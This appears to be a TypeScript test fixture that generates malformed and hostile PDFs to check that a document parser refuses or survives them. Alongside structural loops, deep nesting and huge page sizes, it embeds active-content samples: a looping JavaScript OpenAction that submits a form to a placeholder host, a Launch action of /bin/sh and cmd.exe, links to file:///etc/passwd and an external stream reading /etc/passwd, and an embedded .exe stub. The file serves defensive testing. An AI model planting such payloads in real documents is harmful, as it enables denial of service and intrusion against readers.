/** PDFs that loop, swell, lock, lie or carry something along. */
import { PDFDocument } from "pdf-lib";
import sharp from "sharp";
import { type HostileFile, mutations, text, truncations } from "./hostile-file.ts";
import { boxed, catalog, pageOf, pages, pageWith, pdfOf, stream } from "./pdf-writer.ts";

async function good(): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  // The same bytes on every day: pages bent by a seed must be the same pages tomorrow.
  document.setCreationDate(new Date(0));
  document.setModificationDate(new Date(0));
  const jpeg = await sharp({
    create: { width: 120, height: 160, channels: 3, background: "#ddd" },
  })
    .jpeg()
    .toBuffer();
  const picture = await document.embedJpg(jpeg);
  for (let i = 0; i < 2; i++) {
    const page = document.addPage([595, 842]);
    page.drawText("A page like any other", { x: 60, y: 700 });
    page.drawImage(picture, { x: 60, y: 300 });
  }
  return document.save({ useObjectStreams: false });
}

async function manyPages(count: number): Promise<Uint8Array> {
  const kids = Array.from({ length: count }, (_, i) => `${i + 3} 0 R`).join(" ");
  const leaf = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>";
  return pdfOf([
    catalog,
    `<</Type/Pages/Kids[${kids}]/Count ${count}>>`,
    ...Array.from({ length: count }, () => leaf),
  ]);
}

const script = "(while(true){app.alert\\('x'\\)};this.submitForm\\('http://example.invalid'\\))";

export const hostilePdfs: readonly HostileFile[] = [
  ...truncations("plain", "pdf", 28, good),
  ...mutations("plain", "pdf", 24, good),
  // Structure
  {
    name: "no-pages.pdf",
    expect: "refused",
    bytes: () => pdfOf([catalog, "<</Type/Pages/Kids[]/Count 0>>"]),
  },
  { name: "no-catalog.pdf", expect: "refused", bytes: () => pdfOf(["<<>>"]) },
  { name: "header-only.pdf", expect: "refused", bytes: () => text("%PDF-1.7\n") },
  {
    name: "trailer-only.pdf",
    expect: "refused",
    bytes: () => text("%PDF-1.4\ntrailer<</Root 1 0 R>>\n%%EOF"),
  },
  {
    name: "page-is-its-parent.pdf",
    expect: "either",
    bytes: () => pdfOf([catalog, "<</Type/Pages/Kids[2 0 R]/Count 1>>"]),
  },
  {
    name: "kids-in-a-circle.pdf",
    expect: "either",
    bytes: () =>
      pdfOf([
        catalog,
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "<</Type/Pages/Kids[2 0 R]/Count 1/Parent 2 0 R>>",
      ]),
  },
  {
    name: "count-negative.pdf",
    expect: "either",
    bytes: () => pdfOf([catalog, "<</Type/Pages/Kids[3 0 R]/Count -1>>", pageWith("")]),
  },
  {
    name: "count-of-a-billion.pdf",
    expect: "either",
    bytes: () => pdfOf([catalog, "<</Type/Pages/Kids[3 0 R]/Count 1000000000>>", pageWith("")]),
  },
  { name: "root-is-a-number.pdf", expect: "refused", bytes: () => pdfOf(["7"]) },
  {
    name: "xref-of-itself.pdf",
    expect: "either",
    bytes: () => pdfOf([catalog, pages, pageWith("")], "/Prev 0"),
  },
  {
    name: "prev-loop.pdf",
    expect: "either",
    bytes: () =>
      text(
        "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj\nxref\n0 1\n0000000000 65535 f \ntrailer<</Size 4/Root 1 0 R/Prev 158>>\nstartxref\n158\n%%EOF",
      ),
  },
  {
    name: "length-refers-to-itself.pdf",
    expect: "either",
    bytes: () => pageOf(["<</Length 4 0 R>>stream\nq Q\nendstream"]),
  },
  {
    name: "length-too-long.pdf",
    expect: "either",
    bytes: () => pageOf(["<</Length 999999999>>stream\nq Q\nendstream"]),
  },
  {
    name: "deep-arrays.pdf",
    expect: "either",
    bytes: () => pdfOf([catalog, pages, pageWith(`/X${"[".repeat(60_000)}${"]".repeat(60_000)}`)]),
  },
  {
    name: "deep-dictionaries.pdf",
    expect: "either",
    bytes: () =>
      pdfOf([catalog, pages, pageWith(`/X${"<</A".repeat(20_000)} 1${">>".repeat(20_000)}`)]),
  },
  { name: "pages-501.pdf", expect: "refused", bytes: () => manyPages(501) },
  { name: "pages-10000.pdf", expect: "refused", bytes: () => manyPages(10_000) },
  {
    name: "object-stream-of-itself.pdf",
    expect: "either",
    bytes: () =>
      pdfOf([
        catalog,
        pages,
        pageWith(""),
        stream("/Type/ObjStm/N 1/First 4/Extends 4 0 R", "4 0 <<>>"),
      ]),
  },
  {
    name: "outline-loop.pdf",
    expect: "read",
    bytes: () =>
      pdfOf([
        "<</Type/Catalog/Pages 2 0 R/Outlines 4 0 R>>",
        pages,
        pageWith(""),
        "<</First 4 0 R/Next 4 0 R/Parent 4 0 R>>",
      ]),
  },
  // Paper
  { name: "paper-giant.pdf", expect: "refused", bytes: () => boxed("0 0 14400 14400") },
  { name: "paper-of-a-mile.pdf", expect: "refused", bytes: () => boxed("0 0 4561920 842") },
  {
    name: "paper-unit.pdf",
    expect: "either",
    bytes: () => boxed("0 0 595 842", "/UserUnit 75000"),
  },
  { name: "paper-none.pdf", expect: "either", bytes: () => boxed("0 0 0 0") },
  { name: "paper-thin.pdf", expect: "either", bytes: () => boxed("0 0 0.001 842") },
  { name: "paper-negative.pdf", expect: "either", bytes: () => boxed("0 0 -595 -842") },
  { name: "paper-upside-down.pdf", expect: "read", bytes: () => boxed("595 842 0 0") },
  { name: "paper-words.pdf", expect: "either", bytes: () => boxed("a b c d") },
  { name: "paper-infinite.pdf", expect: "either", bytes: () => boxed("0 0 1e99999 1e99999") },
  {
    name: "paper-crop-outside.pdf",
    expect: "either",
    bytes: () => boxed("0 0 595 842", "/CropBox[9000 9000 9001 9001]"),
  },
  {
    name: "paper-turned-by-37.pdf",
    expect: "read",
    bytes: () => boxed("0 0 595 842", "/Rotate 37"),
  },
  // Things that run or come along
  {
    name: "open-script.pdf",
    expect: "read",
    bytes: () =>
      pdfOf([
        `<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS${script}>>>>`,
        pages,
        pageWith(""),
      ]),
  },
  {
    name: "page-script.pdf",
    expect: "read",
    bytes: () => pdfOf([catalog, pages, pageWith(`/AA<</O<</S/JavaScript/JS${script}>>>>`)]),
  },
  {
    name: "named-script.pdf",
    expect: "read",
    bytes: () =>
      pdfOf([
        `<</Type/Catalog/Pages 2 0 R/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS${script}>>]>>>>>>`,
        pages,
        pageWith(""),
      ]),
  },
  {
    name: "launch.pdf",
    expect: "read",
    bytes: () =>
      pdfOf([
        "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>>>",
        pages,
        pageWith(""),
      ]),
  },
  {
    name: "goes-to-a-server.pdf",
    expect: "read",
    bytes: () =>
      pdfOf([
        "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(http://192.0.2.1/)>>>>",
        pages,
        pageWith(
          "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(file:///etc/passwd)>>>>]",
        ),
      ]),
  },
  {
    name: "attachment.pdf",
    expect: "read",
    bytes: () =>
      pdfOf([
        "<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a.exe)4 0 R]>>>>>>",
        pages,
        pageWith(""),
        "<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>",
        stream("/Type/EmbeddedFile", "MZ"),
      ]),
  },
  {
    name: "xfa-form.pdf",
    expect: "read",
    bytes: () =>
      pdfOf([
        "<</Type/Catalog/Pages 2 0 R/AcroForm<</XFA[(template)4 0 R]/Fields[]>>>>",
        pages,
        pageWith(""),
        stream("", "<xdp:xdp/>"),
      ]),
  },
  {
    name: "external-stream.pdf",
    expect: "either",
    bytes: () => pageOf([stream("/F(/etc/passwd)", "")]),
  },
  {
    name: "film.pdf",
    expect: "read",
    bytes: () =>
      pdfOf([catalog, pages, pageWith("/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]")]),
  },
  // Locks
  {
    name: "locked.pdf",
    expect: "refused",
    bytes: () =>
      pdfOf(
        [
          catalog,
          pages,
          pageWith(""),
          `<</Filter/Standard/V 1/R 2/O<${"28".repeat(32)}>/U<${"41".repeat(32)}>/P -4>>`,
        ],
        `/Encrypt 4 0 R/ID[<${"00".repeat(16)}><${"00".repeat(16)}>]`,
      ),
  },
  {
    name: "locked-aes.pdf",
    expect: "refused",
    bytes: () =>
      pdfOf(
        [
          catalog,
          pages,
          pageWith(""),
          `<</Filter/Standard/V 5/R 6/Length 256/O<${"28".repeat(48)}>/U<${"41".repeat(48)}>/OE<${"00".repeat(32)}>/UE<${"00".repeat(32)}>/Perms<${"00".repeat(16)}>/P -4/CF<</StdCF<</CFM/AESV3/Length 32>>>>/StmF/StdCF/StrF/StdCF>>`,
        ],
        `/Encrypt 4 0 R/ID[<${"00".repeat(16)}><${"00".repeat(16)}>]`,
      ),
  },
  {
    name: "locked-by-nobody.pdf",
    expect: "refused",
    bytes: () => pdfOf([catalog, pages, pageWith(""), "<</Filter/Unheard/V 9>>"], "/Encrypt 4 0 R"),
  },
  // Two things at once
  {
    name: "late-header.pdf",
    expect: "either",
    bytes: async () => Buffer.concat([Buffer.alloc(900, 0x0a), await good()]),
  },
  {
    name: "too-late-header.pdf",
    expect: "refused",
    bytes: async () => Buffer.concat([Buffer.alloc(5000, 0x0a), await good()]),
  },
  {
    name: "page-and-zip.pdf",
    expect: "read",
    bytes: async () => Buffer.concat([await good(), Buffer.from("PK\x03\x04 an archive")]),
  },
  {
    name: "html-with-header.pdf",
    expect: "refused",
    bytes: () => text("<html><script>%PDF-1.4</script></html>"),
  },
  {
    name: "garbage-after-header.pdf",
    expect: "refused",
    bytes: () => Buffer.concat([Buffer.from("%PDF-1.7\n"), Buffer.alloc(200_000, 0x9c)]),
  },
  {
    name: "ten-megabytes-of-zeros.pdf",
    expect: "refused",
    bytes: () => Buffer.concat([Buffer.from("%PDF-1.7\n"), Buffer.alloc(10 * 2 ** 20)]),
  },
];
